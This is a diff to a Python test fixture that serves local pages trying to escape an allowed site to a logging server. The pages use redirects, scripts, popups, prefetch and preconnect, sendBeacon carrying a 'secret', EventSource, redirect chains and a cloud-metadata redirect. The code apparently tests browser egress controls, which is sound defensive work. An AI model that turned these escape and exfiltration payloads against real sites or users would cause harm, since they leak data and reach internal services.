@@ -3,7 +3,6 @@ allowed site whose pages try every way out to it (redirects, scripts, frames, so
 
 from __future__ import annotations
 
-import socket
 import socketserver
 import threading
 from collections.abc import Iterator
@@ -63,12 +62,13 @@ def logging_server() -> Iterator[tuple[int, Log]]:
         server.server_close()
 
 
-def pages(bad: str, good: str) -> dict[str, str]:
+def pages(bad: str) -> dict[str, str]:
     """path -> html of the allowed site; `bad` is the logging server's origin."""
     script = "<script>{}</script>"
     return {
         "/start": "<title>Start</title><a href='/other'>Other page</a>",
         "/other": "<title>Other</title><p>fine</p>",
+        "/preconnect": f"<link rel='preconnect' href='{bad}'><p>preconnect</p>",
         "/meta": f"<meta http-equiv='refresh' content='0;url={bad}/meta'><p>meta</p>",
         "/location": script.format(f"location = '{bad}/location'"),
         "/popup": script.format(f"window.open('{bad}/popup')"),
@@ -84,7 +84,6 @@ def pages(bad: str, good: str) -> dict[str, str]:
         "</form>" + script.format("document.getElementById('f').submit()"),
         "/css": f"<style>@import url('{bad}/import.css');</style><p>css</p>",
         "/prefetch": f"<link rel='prefetch' href='{bad}/prefetch'><p>prefetch</p>",
-        "/preconnect": f"<link rel='preconnect' href='{bad}'><p>preconnect</p>",
         "/beacon": script.format(f"navigator.sendBeacon('{bad}/beacon', 'secret')"),
         "/eventsource": script.format(f"new EventSource('{bad}/events')"),
         "/worker": script.format(
@@ -123,9 +122,9 @@ def allowed_site(bad_port: int) -> Iterator[str]:
                 self.send_header("Location", f"{bad}{path}")
                 self.end_headers()
                 return
-            if path == "/chain":  # an allowed hop first, then out
+            if path in ("/chain", "/chain-hop"):  # an allowed hop first, then out
                 self.send_response(302)
-                self.send_header("Location", "/r302")
+                self.send_header("Location", "/chain-hop" if path == "/chain" else f"{bad}/chain")
                 self.end_headers()
                 return
             if path == "/to-metadata":
@@ -150,7 +149,7 @@ def allowed_site(bad_port: int) -> Iterator[str]:
 
     server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     base = f"http://127.0.0.1:{server.server_address[1]}"
-    holder["pages"] = pages(bad, base)
+    holder["pages"] = pages(bad)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
     try:
@@ -158,9 +157,3 @@ def allowed_site(bad_port: int) -> Iterator[str]:
     finally:
         server.shutdown()
         server.server_close()
-
-
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
